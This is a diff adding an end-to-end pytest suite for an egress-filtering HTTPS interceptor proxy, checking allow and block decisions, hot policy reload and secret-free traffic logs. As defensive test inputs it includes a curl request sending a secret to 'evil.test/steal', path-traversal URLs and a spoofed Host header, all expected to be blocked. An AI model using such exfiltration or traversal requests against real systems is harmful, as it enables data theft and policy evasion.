@@ -1,0 +1,621 @@
+"""The interceptor end to end: real clients in a box namespace, real servers on a net host.
+
+One topology, one upstream server and one interceptor (as an unprivileged uid)
+are shared by the module; clients run as another unprivileged uid. TCP 80/443
+of every uid but the proxy's is redirected to the interceptor.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import signal
+import tempfile
+import textwrap
+import time
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from subprocess import CompletedProcess, Popen
+from typing import Any
+
+import jsonschema
+import pytest
+
+from runtime.policy import Mode, Origin, Policy, make_rule
+from runtime.resolve import write_policy
+from runtime.trafficlog import schema_path
+from tests.harness import Topology, python_bin
+from tests.harness.upstream import (
+    UpstreamCA,
+    build_git_repo,
+    build_simple_index,
+    redirect_to_interceptor,
+    wait_ready,
+)
+
+pytestmark = pytest.mark.e2e
+
+PROXY_UID = 64101
+CLIENT_UID = 64102
+CONFIG = "/work/.copilot_here/network.json"
+NAMES = (
+    "api.github.com",
+    "registry.npmjs.org",
+    "git.test",
+    "pypi.test",
+    "ws.test",
+    "evil.test",
+    "v6.test",
+    "nowhere.test",
+)
+SECRET = "Sup3rSecretQ"  # in query strings and header values; must never be logged
+
+
+def enforce_policy(*extra) -> Policy:
+    user = Origin("user", CONFIG)
+    rules = [
+        make_rule("api.github.com", ["/repos/"], origin=user),
+        make_rule("registry.npmjs.org"),
+        make_rule("git.test", origin=user),
+        make_rule("pypi.test", origin=user),
+        make_rule("ws.test", ["/ws/"], origin=user),
+        make_rule("v6.test", origin=user),
+        make_rule("nowhere.test", origin=user),
+        *extra,
+    ]
+    return Policy.build(Mode.ENFORCE, True, rules, CONFIG)
+
+
+@dataclass
+class Env:
+    topo: Topology
+    work: Path
+    ca: UpstreamCA
+    proxy_ca: Path  # the interceptor's published CA, as clients see it
+    policy_file: Path
+    log_file: Path
+    interceptor: Popen[Any]
+    interceptor_err: Path
+    other_ip: str
+    source: str
+
+    # -- clients -------------------------------------------------------------
+
+    def run(
+        self, argv: Sequence[str], env: dict[str, str] | None = None, timeout: float = 60
+    ) -> CompletedProcess[str]:
+        full = {"PYTHONPATH": self.source, "HOME": str(self.work / "home")}
+        full.update(env or {})
+        return self.topo.box_run(argv, user=CLIENT_UID, env=full, timeout=timeout)
+
+    def curl(self, *args: str) -> CompletedProcess[str]:
+        return self.run(["curl", "-sS", "--max-time", "20", "--cacert", str(self.proxy_ca), *args])
+
+    def python(self, code: str, *args: str, **kw: Any) -> CompletedProcess[str]:
+        return self.run([python_bin(), "-c", textwrap.dedent(code), *args], **kw)
+
+    # -- the traffic log -----------------------------------------------------
+
+    def log_lines(self) -> list[dict[str, Any]]:
+        if not self.log_file.exists():
+            return []
+        return [json.loads(line) for line in self.log_file.read_text().splitlines()]
+
+    def new_lines(self, before: int, expected: int, timeout: float = 5.0) -> list[dict]:
+        """Exactly `expected` lines appended since `before` (waits for late writes)."""
+        deadline = time.monotonic() + timeout
+        while len(self.log_lines()) < before + expected and time.monotonic() < deadline:
+            time.sleep(0.05)
+        time.sleep(0.2)  # a duplicate would show up now
+        lines = self.log_lines()[before:]
+        assert len(lines) == expected, lines
+        return lines
+
+    def mark(self) -> int:
+        return len(self.log_lines())
+
+    # -- policy --------------------------------------------------------------
+
+    def reload(
+        self, policy: Policy | None = None, raw: str | None = None, missing: bool = False
+    ) -> None:
+        before = self.interceptor_err.read_text().count("policy reload")
+        if missing:
+            self.policy_file.unlink(missing_ok=True)
+        elif raw is not None:
+            self.policy_file.write_text(raw)
+        else:
+            write_policy(policy or enforce_policy(), self.policy_file)
+        os.kill(self.interceptor.pid, signal.SIGHUP)
+        deadline = time.monotonic() + 5
+        while self.interceptor_err.read_text().count("policy reload") == before:
+            assert time.monotonic() < deadline, "no reload logged"
+            time.sleep(0.05)
+
+
+def _chown_tree(path: Path, uid: int) -> None:
+    os.chown(path, uid, uid)
+    for entry in path.rglob("*"):
+        os.chown(entry, uid, uid)
+
+
+@pytest.fixture(scope="module")
+def env(module_topology: Topology, staged_source: str) -> Iterator[Env]:
+    topo = module_topology
+    other = topo.add_address(f"{topo.v4_prefix}.9")
+    hosts = {name: topo.net_ip for name in NAMES if name not in ("v6.test", "nowhere.test")}
+    hosts["v6.test"] = topo.net_ip6
+    topo.set_hosts(hosts)
+
+    work = Path(tempfile.mkdtemp(prefix="sp-e2e-ic-", dir="/tmp"))
+    work.chmod(0o755)
+    ca = UpstreamCA.create(work / "upstream", names=list(NAMES))
+    www = work / "www"
+    www.mkdir()
+    build_git_repo(www, "repo.git")
+    build_simple_index(www, "sp-demo")
+    for d in ("run", "logs", "ca", "confdir", "home"):
+        (work / d).mkdir(mode=0o755)
+    _chown_tree(work / "home", CLIENT_UID)
+    for d in ("run", "logs", "ca", "confdir"):
+        _chown_tree(work / d, PROXY_UID)
+    (work / "confdir").chmod(0o700)
+    for root, dirs, files in os.walk(www):
+        for name in dirs:
+            os.chmod(os.path.join(root, name), 0o755)
+        for name in files:
+            os.chmod(os.path.join(root, name), 0o644)
+
+    server_log = (work / "upstream.log").open("w")
+    server = topo.net_popen(
+        [
+            *(python_bin(), "-m", "tests.harness.upstream", "serve"),
+            *("--cert", str(ca.server_cert), "--key", str(ca.server_key), "--root", str(www)),
+        ],
+        env={"PYTHONPATH": staged_source},
+        stderr=server_log,
+        text=True,
+    )
+    wait_ready(server)
+    redirect_to_interceptor(topo, PROXY_UID)
+
+    policy_file = work / "run" / "policy.json"
+    write_policy(enforce_policy(), policy_file)
+    marker = work / "run" / "interceptor.ready"
+    marker.write_text("stale")  # must be replaced only once listening
+    os.chown(marker, PROXY_UID, PROXY_UID)
+    proxy_ca = work / "ca" / "ca.pem"
+    log_file = work / "logs" / "traffic.jsonl"
+    err_path = work / "interceptor.err"
+    err = err_path.open("w")
+    interceptor = topo.box_popen(
+        [
+            *(python_bin(), "-m", "runtime.interceptor"),
+            *("--policy", str(policy_file), "--confdir", str(work / "confdir")),
+            *("--traffic-log", str(log_file), "--ca-cert", str(proxy_ca)),
+            *("--ready-marker", str(marker), "--verbosity", "info"),
+        ],
+        user=PROXY_UID,
+        env={"PYTHONPATH": staged_source, "SECURE_PROXY_UPSTREAM_CA": str(ca.ca_cert)},
+        stdout=err,
+        stderr=err,
+    )
+    deadline = time.monotonic() + 30
+    while not (marker.exists() and marker.read_text().startswith("{")):
+        if interceptor.poll() is not None or time.monotonic() > deadline:
+            raise RuntimeError(f"interceptor did not start: {err_path.read_text()}")
+        time.sleep(0.1)
+    yield Env(
+        topo=topo,
+        work=work,
+        ca=ca,
+        proxy_ca=proxy_ca,
+        policy_file=policy_file,
+        log_file=log_file,
+        interceptor=interceptor,
+        interceptor_err=err_path,
+        other_ip=other,
+        source=staged_source,
+    )
+    topo.stop(interceptor)
+    topo.stop(server)
+    err.close()
+    server_log.close()
+    assert not marker.exists(), "readiness marker left behind at shutdown"
+    shutil.rmtree(work, ignore_errors=True)
+
+
+def _headers_and_body(out: str) -> tuple[int, dict[str, str], str]:
+    head, _, body = out.replace("\r\n", "\n").partition("\n\n")
+    lines = head.splitlines()
+    status = int(lines[0].split()[1])
+    headers = {k.strip().lower(): v.strip() for k, _, v in (x.partition(":") for x in lines[1:])}
+    return status, headers, body
+
+
+def assert_block_response(out: str, reason: str, url_fragment: str) -> str:
+    status, headers, body = _headers_and_body(out)
+    assert status == 403, out
+    assert headers["content-type"] == "text/plain; charset=utf-8"
+    assert headers["x-secure-proxy-decision"] == f"block; reason={reason}"
+    assert int(headers["content-length"]) == len(body.encode())
+    assert body.startswith("BLOCKED: "), body
+    assert url_fragment in body.splitlines()[0]
+    assert f"reason: {reason}" in body
+    assert f"config: {CONFIG}" in body
+    return body
+
+
+# --------------------------------------------------------------------------- start-up
+
+
+def test_ready_marker_ca_and_key_permissions(env: Env):
+    info = json.loads((env.work / "run" / "interceptor.ready").read_text())
+    assert info["pid"] == env.interceptor.pid
+    assert any(addr[1] == 58080 for addr in info["listening"])
+    assert any(":" in addr[0] for addr in info["listening"])  # IPv6 too
+    assert env.proxy_ca.stat().st_mode & 0o777 == 0o644
+    assert "BEGIN CERTIFICATE" in env.proxy_ca.read_text()
+    key = env.work / "confdir" / "mitmproxy-ca.pem"
+    st = key.stat()
+    assert st.st_uid == PROXY_UID and st.st_mode & 0o077 == 0
+    # The interceptor runs as the proxy uid, not root.
+    status = Path(f"/proc/{env.interceptor.pid}/status").read_text()
+    assert re.search(rf"^Uid:\s+{PROXY_UID}\s", status, re.M)
+
+
+# --------------------------------------------------------------------------- curl
+
+
+def test_curl_http11_allowed_reaches_upstream_by_name(env: Env):
+    before = env.mark()
+    r = env.curl(
+        "--http1.1",
+        "-H",
+        f"X-Probe: {SECRET}",
+        f"https://api.github.com/repos/o/r?access_token={SECRET}",
+    )
+    assert r.returncode == 0, r.stderr
+    seen = json.loads(r.stdout)
+    assert seen["sni"] == "api.github.com" and seen["host"] == "api.github.com"
+    assert seen["local"] == env.topo.net_ip
+    assert seen["path"] == f"/repos/o/r?access_token={SECRET}"  # upstream gets the query
+    [line] = env.new_lines(before, 1)
+    assert line["action"] == "ALLOW" and line["status"] == 200
+    assert line["http_version"] == "HTTP/1.1" and line["path"] == "/repos/o/r"
+    assert line["rule"] == "api.github.com" and line["rule_source"] == CONFIG
+
+
+def test_curl_http11_blocked_gets_403_explanation(env: Env):
+    before = env.mark()
+    r = env.curl("--http1.1", "-i", f"https://evil.test/steal?data={SECRET}")
+    assert r.returncode == 0, r.stderr
+    body = assert_block_response(r.stdout, "host_not_allowed", "https://evil.test/steal")
+    assert '{"host": "evil.test"' in body
+    [line] = env.new_lines(before, 1)
+    assert line["action"] == "BLOCK" and line["status"] == 403 and line["host"] == "evil.test"
+
+
+def test_curl_http2_each_stream_judged(env: Env):
+    before = env.mark()
+    r = env.curl(
+        "--http2",
+        "-i",
+        "https://api.github.com/repos/a",
+        "https://api.github.com/admin",
+    )
+    assert r.returncode == 0, r.stderr
+    parts = re.split(r"(?=^HTTP/2 )", r.stdout, flags=re.M)
+    parts = [p for p in parts if p.strip()]
+    assert parts[0].startswith("HTTP/2 200")
+    assert_block_response(parts[1], "path_not_allowed", "https://api.github.com/admin")
+    lines = env.new_lines(before, 2)
+    assert [x["status"] for x in lines] == [200, 403]
+    assert {x["http_version"] for x in lines} == {"HTTP/2.0"}
+
+
+@pytest.mark.parametrize("proto", ["--http1.1", "--http2"])
+def test_keep_alive_second_request_judged_on_its_own(env: Env, proto: str):
+    before = env.mark()
+    r = env.curl(
+        proto,
+        "-w",
+        "%{http_code} %{num_connects}\n",
+        "-o",
+        "/dev/null",
+        "https://api.github.com/repos/x",
+        "-o",
+        "/dev/null",
+        "https://api.github.com/orgs/x",
+    )
+    assert r.returncode == 0, r.stderr
+    # one TCP connection, two requests, two verdicts
+    assert r.stdout.split("\n")[:2] == ["200 1", "403 0"]
+    assert [x["status"] for x in env.new_lines(before, 2)] == [200, 403]
+
+
+def test_plain_http_on_port_80(env: Env):
+    before = env.mark()
+    r = env.curl("http://api.github.com/repos/x")
+    assert r.returncode == 0, r.stderr
+    seen = json.loads(r.stdout)
+    assert seen["sni"] is None and seen["tls"] is False and seen["local"] == env.topo.net_ip
+    r = env.curl("-i", "http://evil.test/")
+    assert_block_response(r.stdout, "host_not_allowed", "http://evil.test/")
+    # curl --resolve on port 80: the other IP is never reached.
+    r = env.curl("--resolve", f"api.github.com:80:{env.other_ip}", "http://api.github.com/repos/y")
+    assert json.loads(r.stdout)["local"] == env.topo.net_ip
+    lines = env.new_lines(before, 3)
+    assert [x["scheme"] for x in lines] == ["http"] * 3
+    assert [x["port"] for x in lines] == [80] * 3
+
+
+def test_dialled_ip_is_ignored_for_the_name(env: Env):
+    before = env.mark()
+    r = env.curl(
+        "--resolve", f"api.github.com:443:{env.other_ip}", "https://api.github.com/repos/x"
+    )
+    assert r.returncode == 0, r.stderr
+    assert json.loads(r.stdout)["local"] == env.topo.net_ip  # not other_ip
+    # An IP literal no rule allows is blocked.
+    r = env.curl("-k", "-i", f"https://{env.other_ip}/repos/x")
+    assert_block_response(r.stdout, "host_not_allowed", f"https://{env.other_ip}/repos/x")
+    lines = env.new_lines(before, 2)
+    assert lines[1]["host"] == env.other_ip
+
+
+def test_sni_host_mismatch_blocked(env: Env):
+    before = env.mark()
+    r = env.curl("-i", "-H", "Host: evil.test", "https://api.github.com/repos/x")
+    assert_block_response(r.stdout, "host_mismatch", "https://api.github.com/repos/x")
+    r = env.curl("--http2", "-i", "-H", "Host: evil.test", "https://api.github.com/repos/x")
+    assert_block_response(r.stdout, "host_mismatch", "/repos/x")
+    assert [x["reason"] for x in env.new_lines(before, 2)] == ["host_mismatch"] * 2
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/repos/../admin", "/repos/%2e%2e/admin", "//repos/../admin", "/repos/%2E%2E/%2e%2e/admin"],
+)
+def test_path_tricks_blocked(env: Env, path: str):
+    before = env.mark()
+    r = env.curl("--path-as-is", "-i", f"https://api.github.com{path}")
+    assert_block_response(r.stdout, "path_not_allowed", "https://api.github.com/admin")
+    [line] = env.new_lines(before, 1)
+    assert line["path"] == "/admin"
+
+
+def test_ipv6_client_and_upstream(env: Env):
+    before = env.mark()
+    r = env.curl("-6", "https://v6.test/any")
+    assert r.returncode == 0, r.stderr
+    assert json.loads(r.stdout)["local"] == env.topo.net_ip6
+    env.new_lines(before, 1)
+
+
+def test_large_bodies_stream_and_are_counted(env: Env):
+    before = env.mark()
+    size = 3 * 1024 * 1024
+    blob = env.work / "home" / "blob"
+    blob.write_bytes(b"b" * size)
+    os.chown(blob, CLIENT_UID, CLIENT_UID)
+    r = env.curl("--data-binary", f"@{blob}", "https://api.github.com/repos/upload")
+    assert json.loads(r.stdout)["body_len"] == size
+    r = env.curl("-o", "/dev/null", "-w", "%{size_download}", "https://git.test/bytes/2500000")
+    assert r.stdout == "2500000"
+    up, down = env.new_lines(before, 2)
+    assert up["bytes_out"] == size and up["method"] == "POST"
+    assert down["bytes_in"] == 2500000
+
+
+def test_upstream_failure_logged_once_as_502(env: Env):
+    before = env.mark()
+    # Allowed, but the proxy cannot resolve the name: mitmproxy answers 502.
+    r = env.curl(
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "--resolve",
+        f"nowhere.test:443:{env.other_ip}",
+        "https://nowhere.test/x",
+    )
+    assert r.stdout == "502"
+    [line] = env.new_lines(before, 1)
+    assert line["status"] == 502 and line["action"] == "ALLOW"
+
+
+# --------------------------------------------------------------------------- other clients
+
+
+def test_node_fetch(env: Env):
+    before = env.mark()
+    script = """
+    const urls = process.argv.slice(1);
+    (async () => {
+      for (const u of urls) {
+        const r = await fetch(u);
+        const text = await r.text();
+        console.log(JSON.stringify({status: r.status,
+          decision: r.headers.get('x-secure-proxy-decision'), first: text.split('\\n')[0]}));
+      }
+    })().catch(e => { console.error(e); process.exit(1); });
+    """
+    r = env.run(
+        [
+            "node",
+            "-e",
+            textwrap.dedent(script),
+            "https://registry.npmjs.org/react",
+            "https://evil.test/x",
+        ],
+        env={"NODE_EXTRA_CA_CERTS": str(env.proxy_ca)},
+    )
+    assert r.returncode == 0, r.stderr
+    ok, blocked = (json.loads(x) for x in r.stdout.splitlines())
+    assert ok["status"] == 200
+    assert blocked == {
+        "status": 403,
+        "decision": "block; reason=host_not_allowed",
+        "first": "BLOCKED: GET https://evil.test/x",
+    }
+    env.new_lines(before, 2)
+
+
+def test_python_urllib(env: Env):
+    before = env.mark()
+    code = """
+    import ssl, sys, urllib.request, urllib.error
+    ctx = ssl.create_default_context(cafile=sys.argv[1])
+    for url in sys.argv[2:]:
+        try:
+            with urllib.request.urlopen(url, context=ctx, timeout=20) as r:
+                print(r.status)
+        except urllib.error.HTTPError as e:
+            print(e.code, e.headers["X-Secure-Proxy-Decision"], e.read().decode().splitlines()[0])
+    """
+    r = env.python(
+        code, str(env.proxy_ca), "https://api.github.com/repos/x", "https://api.github.com/user"
+    )
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.splitlines() == [
+        "200",
+        "403 block; reason=path_not_allowed BLOCKED: GET https://api.github.com/user",
+    ]
+    env.new_lines(before, 2)
+
+
+def test_git_clone_over_https(env: Env):
+    before = env.mark()
+    git_env = {"GIT_SSL_CAINFO": str(env.proxy_ca), "GIT_TERMINAL_PROMPT": "0"}
+    dest = env.work / "home" / "clone"
+    r = env.run(["git", "clone", "-q", "https://git.test/repo.git", str(dest)], env=git_env)
+    assert r.returncode == 0, r.stderr
+    assert (dest / "README.md").read_text() == "hello from the test git server\n"
+    n = len(env.new_lines(before, len(env.log_lines()) - before))
+    assert n >= 3  # info/refs, HEAD, objects...
+    assert all(x["host"] == "git.test" and x["action"] == "ALLOW" for x in env.log_lines()[before:])
+    before = env.mark()
+    r = env.run(
+        ["git", "clone", "-q", "https://evil.test/repo.git", str(env.work / "home" / "no")],
+        env=git_env,
+    )
+    assert r.returncode != 0 and "403" in r.stderr
+    assert env.new_lines(before, 1)[0]["status"] == 403
+
+
+def test_pip_install_from_simple_index(env: Env):
+    before = env.mark()
+    target = env.work / "home" / "site"
+    pip = [python_bin(), "-m", "pip", "install", "--no-cache-dir", "--disable-pip-version-check"]
+    pip += ["--cert", str(env.proxy_ca), "--target", str(target)]
+    r = env.run([*pip, "--index-url", "https://pypi.test/simple/", "sp-demo"], timeout=120)
+    assert r.returncode == 0, r.stdout + r.stderr
+    r = env.python("import sp_demo; print(sp_demo.VALUE)", env={"PYTHONPATH": str(target)})
+    assert r.stdout.strip() == "sp-demo 0.1 installed through the proxy"
+    lines = env.new_lines(before, 2)
+    assert [x["path"] for x in lines] == [
+        "/simple/sp-demo/",
+        "/packages/sp_demo-0.1-py3-none-any.whl",
+    ]
+    before = env.mark()
+    r = env.run(
+        [*pip, "--retries", "0", "--index-url", "https://evil.test/simple/", "sp-demo"], timeout=120
+    )
+    assert r.returncode != 0
+    assert all(x["status"] == 403 for x in env.new_lines(before, 1))
+
+
+def test_websocket_client(env: Env):
+    before = env.mark()
+    code = """
+    import ssl, sys
+    from websockets.sync.client import connect
+    from websockets.exceptions import InvalidStatus
+    ctx = ssl.create_default_context(cafile=sys.argv[1])
+    for url in sys.argv[2:]:
+        try:
+            with connect(url, ssl=ctx, open_timeout=20) as ws:
+                ws.send("ping")
+                print(ws.recv(timeout=10))
+        except InvalidStatus as e:
+            r = e.response
+            print(r.status_code, r.headers["X-Secure-Proxy-Decision"])
+    """
+    r = env.python(code, str(env.proxy_ca), "wss://ws.test/ws/chat", "wss://evil.test/ws/chat")
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.splitlines() == ["echo: ping", "403 block; reason=host_not_allowed"]
+    assert [x["status"] for x in env.new_lines(before, 2)] == [101, 403]
+
+
+# --------------------------------------------------------------------------- reload
+
+PERSISTENT_CLIENT = """
+import http.client, ssl, sys
+ctx = ssl.create_default_context(cafile=sys.argv[1])
+conn = http.client.HTTPSConnection("evil.test", 443, context=ctx, timeout=20)
+for line in sys.stdin:
+    conn.request("GET", line.strip())
+    resp = conn.getresponse()
+    resp.read()
+    print(resp.status, id(conn.sock), flush=True)
+"""
+
+
+def test_sighup_applies_to_open_connection_and_broken_file_keeps_policy(env: Env):
+    client = env.topo.box_popen(
+        [python_bin(), "-c", PERSISTENT_CLIENT, str(env.proxy_ca)],
+        user=CLIENT_UID,
+        env={"HOME": str(env.work / "home")},
+        stdin=-1,
+        text=True,
+    )
+
+    def ask(path: str) -> tuple[int, str]:
+        client.stdin.write(path + "\n")
+        client.stdin.flush()
+        status, sock = client.stdout.readline().split()
+        return int(status), sock
+
+    try:
+        status, sock = ask("/a")
+        assert status == 403
+        env.reload(enforce_policy(make_rule("evil.test", ["/a"], origin=Origin("user", CONFIG))))
+        status2, sock2 = ask("/a")
+        assert (status2, sock2) == (200, sock)  # same connection, new policy
+        env.reload(raw="{ this is not json")
+        assert "keeping the policy in force" in env.interceptor_err.read_text()
+        assert ask("/a") == (200, sock)
+        env.reload(missing=True)
+        assert "is missing; keeping the policy in force" in env.interceptor_err.read_text()
+        assert ask("/a") == (200, sock)
+    finally:
+        env.reload(enforce_policy())
+        client.stdin.close()
+        env.topo.stop(client)
+    assert ask_fresh_blocked(env)
+
+
+def ask_fresh_blocked(env: Env) -> bool:
+    r = env.curl("-o", "/dev/null", "-w", "%{http_code}", "https://evil.test/a")
+    return r.stdout == "403"
+
+
+# --------------------------------------------------------------------------- the log as a whole
+
+
+def test_zz_every_log_line_valid_and_clean(env: Env):
+    schema = json.loads(schema_path().read_text())
+    text = env.log_file.read_text()
+    lines = text.splitlines()
+    assert len(lines) > 30
+    for line in lines:
+        jsonschema.validate(json.loads(line), schema)
+    assert SECRET not in text
+    assert "?" not in text
+    # User-Agent and other header values of the clients above
+    for value in ("curl/7", "node", "Python-urllib/", "git/2.", "pip/2", "Upgrade", "websocket"):
+        assert value not in text, value
